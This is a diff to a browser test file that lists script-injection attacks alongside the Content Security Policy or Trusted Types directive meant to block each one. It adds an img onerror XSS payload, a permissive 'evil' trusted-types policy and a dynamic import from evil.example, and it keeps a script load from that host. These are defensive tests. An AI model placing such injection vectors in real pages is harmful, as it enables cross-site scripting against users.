@@ -121,23 +121,31 @@ test("a page whose link the pointer is on is prerendered", async ({ page }) => {
 /** Attacks that injected code could try, with the directive that blocks each one. */
 const ATTACKS: [directive: string, attack: () => unknown][] = [
   [
-    "script-src-elem",
+    "require-trusted-types-for",
     () =>
       document.head.append(Object.assign(document.createElement("script"), { text: "document.title = 'attacked'" })),
   ],
   [
-    "script-src-elem",
+    "require-trusted-types-for",
     () =>
       document.head.append(Object.assign(document.createElement("script"), { src: "https://evil.example/attack.js" })),
   ],
   [
-    "script-src-attr",
+    "require-trusted-types-for",
     () => {
       document.body.setAttribute("onclick", "document.title = 'attacked'");
       document.body.click();
     },
   ],
-  ["script-src", () => setTimeout(() => new Function("document.title = 'attacked'")())],
+  ["require-trusted-types-for", () => setTimeout(() => new Function("document.title = 'attacked'")())],
+  [
+    "require-trusted-types-for",
+    () => {
+      document.body.innerHTML = "<img src=x onerror=\"document.title = 'attacked'\">";
+    },
+  ],
+  ["trusted-types", () => window.trustedTypes?.createPolicy("evil", { createHTML: String })],
+  ["script-src-elem", () => import("https://evil.example/attack.js" as string)],
   [
     "style-src-elem",
     () => document.head.append(Object.assign(document.createElement("style"), { textContent: "body { opacity: 0 }" })),
